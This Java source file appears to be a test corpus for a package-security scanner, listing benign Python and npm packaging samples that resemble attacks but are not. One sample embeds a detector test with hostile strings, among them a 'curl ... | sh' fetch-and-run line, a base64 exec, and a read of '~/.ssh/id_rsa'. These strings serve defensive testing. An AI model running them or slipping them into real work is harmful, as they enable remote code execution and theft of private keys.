package cordon.inspect.corpus;

import cordon.inspect.testing.Artifact;
import java.util.List;

/** What looks like an attack and is none. */
final class Negatives {
  private Negatives() {}

  static List<Sample> all() {
    return List.of(
        new Sample(
            "a .pth that lists a folder",
            Artifact.wheel("sample", "1.0").file("sample.pth", "../sample-src\n")),
        new Sample(
            "a .pth that installs an import hook",
            Artifact.wheel("sample", "1.0")
                .file(
                    "_hook/__init__.py",
                    "def add():\n    import sys\n    sys.meta_path.insert(0, object())\n")
                .file(
                    "sample-precedence.pth",
                    "import os; var = 'SAMPLE_USE'; enabled = os.environ.get(var, 'local') == 'local';"
                        + " enabled and __import__('_hook').add()\n")),
        new Sample(
            "weights that are called .pth",
            Artifact.wheel("sample", "1.0")
                .file("sample/__init__.py", "")
                .file("sample/weights/a.pth", "not a pickle at all")),
        Sample.setup(
            "setup.py that reads its version by exec and asks git",
            """
            import subprocess
            from setuptools import setup
            scope = {}
            exec(open('sample/version.py').read(), scope)
            try:
                rev = subprocess.check_output(['git', 'describe', '--tags']).decode().strip()
            except Exception:
                rev = 'unknown'
            setup(name='sample', version=scope.get('VERSION', rev))
            """),
        Sample.setup(
            "setup.py that builds an extension with a compiler",
            """
            import os, subprocess, sys
            from setuptools import setup, Extension
            from setuptools.command.build_ext import build_ext

            class CMakeBuild(build_ext):
                def build_extension(self, ext):
                    env = os.environ.copy()
                    env['CXXFLAGS'] = env.get('CXXFLAGS', '') + ' -DX'
                    subprocess.check_call(['cmake', '..'], env=env)
                    subprocess.check_call(['cmake', '--build', '.'])

            setup(name='sample', ext_modules=[Extension('x', ['x.c'])], cmdclass={'build_ext': CMakeBuild})
            """),
        Sample.imported(
            "a client that signs in with a token from the environment when called",
            """
            import os, requests

            class Client:
                def __init__(self):
                    self.token = os.environ.get('SAMPLE_API_KEY')

                def list(self):
                    return requests.get('https://api.sample.example/v1', headers={'Authorization': self.token}).json()
            """),
        Sample.imported(
            "an attrs-like library that compiles what it generates",
            """
            def make(names):
                source = 'def f(self):\\n' + ''.join('    self.%s = 1\\n' % n for n in names)
                scope = {}
                eval(compile(source, '<generated>', 'exec'), scope)
                return scope['f']
            f = make(['a', 'b'])
            """),
        Sample.imported(
            "base64 of an image at import",
            "import base64\nICON = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ')\n"),
        new Sample(
            "tests full of attack strings",
            Artifact.sdist("sample", "1.0")
                .file("setup.py", "from setuptools import setup\nsetup(name='sample')\n")
                .file("sample/__init__.py", "")
                .file(
                    "tests/test_detect.py",
                    """
                    import base64, os
                    def test_detects():
                        evil = "exec(base64.b64decode('cHJpbnQoMSk='))"
                        assert detect(evil)
                        assert detect("os.system('curl http://192.0.2.7/i | sh')")
                        assert detect("open('~/.ssh/id_rsa')")
                    """)),
        Sample.postinstall(
            "a binary fetched from the publisher and checked, as bundlers do",
            """
            const https = require('https'), fs = require('fs'), zlib = require('zlib'), path = require('path');
            const cp = require('child_process');
            const target = path.join(__dirname, 'bin', 'tool');
            function fetch(url) {
              return new Promise((resolve, reject) => {
                https.get(url, res => {
                  const chunks = [];
                  res.on('data', c => chunks.push(c));
                  res.on('end', () => resolve(Buffer.concat(chunks)));
                }).on('error', reject);
              });
            }
            fetch('https://downloads.sample.example/tool.tgz').then(b => {
              fs.writeFileSync(target, zlib.gunzipSync(b));
              fs.chmodSync(target, 0o755);
              cp.execFileSync(target, ['--version']);
            });
            """),
        Sample.postinstall(
            "a banner at install",
            """
            const env = process.env;
            if (!env.CI && !env.DISABLE_OPENCOLLECTIVE) {
              console.log('\\u001B[96mThank you for using sample\\u001B[0m');
            }
            """),
        Sample.command("a native build", "node-gyp rebuild"),
        Sample.command("a fallback build", "prebuild-install || node-gyp rebuild"),
        new Sample(
            "a native module with sources",
            Artifact.npm("sample", "1.0.0")
                .file("package.json", "{\"name\":\"sample\",\"version\":\"1.0.0\"}")
                .file("src/a.cc", "int main() { return 0; }\n")
                .file(
                    "binding.gyp",
                    "{'targets': [{'target_name': 'a', 'sources': ['src/a.cc'], 'include_dirs':"
                        + " ['<!(node -p \"require(\\'node-addon-api\\').include\")']}]}")),
        Sample.required(
            "a bundle that asks for the global object",
            "var g = (function () { return this })() || Function('return this')();\n"
                + "module.exports = g;\n"),
        Sample.required(
            "a command runner used when called",
            """
            const { spawn } = require('child_process');
            exports.run = (cmd, args) => spawn(cmd, args, { env: { ...process.env } });
            """),
        Sample.required(
            "a template engine",
            """
            exports.compile = function (source) {
              return new Function('data', 'return `' + source.replace(/`/g, '') + '`');
            };
            exports.hello = exports.compile('hello ${data}');
            """));
  }
}
